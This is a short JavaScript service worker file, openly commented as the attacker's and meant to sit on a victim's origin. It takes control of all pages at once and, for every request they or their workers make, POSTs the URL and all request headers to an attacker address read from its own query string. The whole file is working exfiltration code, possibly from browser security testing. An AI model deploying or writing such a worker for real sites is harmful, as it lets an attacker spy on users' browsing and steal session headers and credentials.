// The attacker's: reports what every request of this origin's pages and workers carries. Needs to be a file on the victim's
// origin. Its address names the attacker.
const attacker = decodeURIComponent(location.search.slice(1));

addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", ({ request }) => {
  const seen = JSON.stringify([request.url, ...request.headers]);
  if (!request.url.startsWith(attacker)) fetch(attacker, { method: "POST", mode: "no-cors", body: seen });
});
